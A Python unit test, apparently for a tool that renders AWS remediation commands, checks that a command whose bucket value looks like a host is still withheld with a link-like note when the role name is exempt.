def test_a_link_like_finding_value_is_still_left_out_beside_an_exempt_role_name(value, role):
    # Given a member command through target locations whose bucket value looks like a host
    command = (
        OTHER_ACCOUNT_COMMAND.replace("BucketName=my-bucket", value).replace("eu-west-1", "us-east-1")
        + f",AutomationAssumeRole=arn:aws:iam::111122223333:role/{role} --target-locations Accounts=111122223333,"
        f"Regions=eu-west-1,ExecutionRoleName={role},TargetLocationMaxConcurrency=1"
    )
    offer = Offer("public_access", None, command, CONSOLE, None)
    # When it is rendered
    [item] = render_module.respond_items((offer,), "en")
    # Then the command is still left out with the link-like note: only the role name is exempt
    assert item.command is None
    assert EN["r.note.link_like"] in item.notes
